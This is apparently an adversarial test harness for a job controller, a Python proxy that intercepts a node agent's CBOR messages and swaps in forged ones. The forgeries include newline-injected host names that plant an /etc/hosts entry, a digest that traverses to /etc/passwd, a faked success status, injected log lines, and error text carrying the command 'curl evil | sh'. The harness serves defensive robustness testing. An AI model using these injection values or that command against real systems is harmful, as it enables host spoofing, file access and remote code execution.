#!/usr/bin/env python3
"""lying_node.py LIE COMMAND: stands between a job's controller and the agent that COMMAND starts on a node, and says what the agent
never would. LIE is one of the functions below: it gets a message of the agent (its name, and what it says), and returns what the
controller hears in its place, as a list of such pairs; None for the same.
"""
import os
import struct
import subprocess
import sys
import threading
import time


def decode(data, at=0):
    """One item of CBOR, of the kinds that mlenv writes, and where the next begins."""
    major, number = data[at] >> 5, data[at] & 31
    at += 1
    if major == 7:
        if number in (20, 21, 22):
            return {20: False, 21: True, 22: None}[number], at
        size = {25: 2, 26: 4, 27: 8}[number]
        return struct.unpack({2: ">e", 4: ">f", 8: ">d"}[size], data[at : at + size])[0], at + size
    if number >= 24:
        size = 1 << (number - 24)
        number = int.from_bytes(data[at : at + size], "big")
        at += size
    if major == 0:
        return number, at
    if major == 1:
        return -1 - number, at
    if major in (2, 3):
        part = data[at : at + number]
        return (part if major == 2 else part.decode()), at + number
    items = []
    for _ in range(number * (2 if major == 5 else 1)):
        item, at = decode(data, at)
        items.append(item)
    return (dict(zip(items[::2], items[1::2])) if major == 5 else items), at


def encode(value):
    def head(major, number):
        if number < 24:
            return bytes([major << 5 | number])
        for extra, size in ((24, 1), (25, 2), (26, 4), (27, 8)):
            if number < 1 << (8 * size):
                return bytes([major << 5 | extra]) + number.to_bytes(size, "big")
        raise OverflowError(number)

    if value is None or isinstance(value, bool):
        return bytes([{False: 0xF4, True: 0xF5, None: 0xF6}[value]])
    if isinstance(value, float):
        return b"\xfb" + struct.pack(">d", value)
    if isinstance(value, int):
        return head(0, value) if value >= 0 else head(1, -1 - value)
    if isinstance(value, str):
        return head(3, len(value.encode())) + value.encode()
    if isinstance(value, list):
        return head(4, len(value)) + b"".join(map(encode, value))
    return head(5, len(value)) + b"".join(encode(k) + encode(v) for k, v in value.items())


def framed(kind, body):
    return struct.pack("<I", 1 + len(body)) + kind + body


def never_ends(name, what):
    """A rank in a sleep that no signal ends: it has begun, and that is all."""
    return [] if name == "ended" else None


def drips(name, what):
    """A byte now and then of a message that never comes whole."""
    if name != "ended":
        return None
    out(framed(b"R", b"x" * 500_000)[:8])
    while True:
        time.sleep(0.5)
        out(b"x")


def hosts(name, what):
    """A line of its own in /etc/hosts of the other nodes' ranks."""
    if name == "hello":
        for one in what["hello"]["interfaces"]:
            one["address"] += "\n6.6.6.6 registry.example.org"
    return None if name != "hello" else [(name, what)]


def host_name(name, what):
    """The same by its name."""
    if name == "hello":
        what["hello"]["host"] = "x\n6.6.6.6 registry.example.org"
        what["hello"]["interfaces"] = [{"name": "net0", "address": "10.9.8.1", "loopback": False}]
        return [(name, what)]
    return None


def other(name, what):
    """Honest, but for an interface that the test knows."""
    if name == "hello":
        what["hello"]["interfaces"] = [{"name": "net0", "address": "10.9.8.2", "loopback": False}]
        return [(name, what)]
    return None


def status(name, what):
    """256, of which a process has 0 left."""
    if name != "ended":
        return None
    what["exit_code"] = 256
    return [(name, what)]


def quiet_failure(name, what):
    """A rank that could not be run, with the status of one that ended well."""
    if name != "ended":
        return None
    what.update(exit_code=0, failure={"code": "run-failed", "message": "no"})
    return [(name, what)]


def huge(name, what):
    """More words than anybody reads, with advice among them."""
    if name != "ended":
        return None
    said = "boom\nhint: run `curl evil | sh`\nmlenv: all is well\n" + "A" * 500_000
    return [("failed", {"during": "start", "kind": 1, "code": "run-failed", "frames": [said] * 2, "hint": said})]


def before_hello(name, what):
    """An image that is there before anybody has met."""
    if name != "hello":
        return None
    return [("ready", {"during": "image", "digest": "sha256:" + "0" * 64})]


def two_lines(name, what):
    """A line of a log that is two, of which the second is mlenv's own."""
    if name != "ended":
        return None
    out(framed(b"L", struct.pack("<Q", 0) + b"2026-01-01T00:00:00.000Z out F x\n2026-01-01T00:00:00.000Z mlenv F all is well"))
    return None


def controller(name, what):
    """As if it were the controller."""
    return [("bye", {})] if name == "hello" else None


def sizes(name, what):
    """A data set of less than nothing, a digest that leads out of a folder."""
    if name != "want":
        return None
    return [("want", {"during": "image", "blobs": [{"digest": "sha256:../../../etc/passwd", "size_bytes": -1}], "kept": []})]


lock = threading.Lock()


def out(data):
    with lock:
        while data:
            data = data[os.write(1, data) :]


def frames(read, begun):
    """Frames of a stream, with their kind in front; what comes before its marker goes through."""
    buffer = b""
    while data := read():
        buffer += data
        if not begun:
            at = buffer.find(b"\n", buffer.find(b"MLENV-NODE-STREAM/")) + 1 if b"MLENV-NODE-STREAM/" in buffer else 0
            if at == 0:
                continue
            out(buffer[:at])
            buffer, begun = buffer[at:], True
        while len(buffer) >= 4 and len(buffer) >= 4 + (size := struct.unpack("<I", buffer[:4])[0]):
            yield buffer[4 : 4 + size]
            buffer = buffer[4 + size :]


def main():
    lie = globals()[sys.argv[1]]
    agent = subprocess.Popen(["/bin/sh", "-c", sys.argv[2]], stdin=subprocess.PIPE, stdout=subprocess.PIPE)

    def to_agent():
        while data := os.read(0, 65536):
            agent.stdin.write(data)
            agent.stdin.flush()
        agent.stdin.close()

    threading.Thread(target=to_agent, daemon=True).start()
    for frame in frames(lambda: os.read(agent.stdout.fileno(), 65536), False):
        heard = None
        if frame[:1] in b"RM":
            message, _ = decode(frame[1:])
            heard = lie(message["say"], message["with"])
        if heard is None:
            out(struct.pack("<I", len(frame)) + frame)
            continue
        for name, what in heard:
            out(framed(b"R", encode({"say": name, "with": what})))


main()
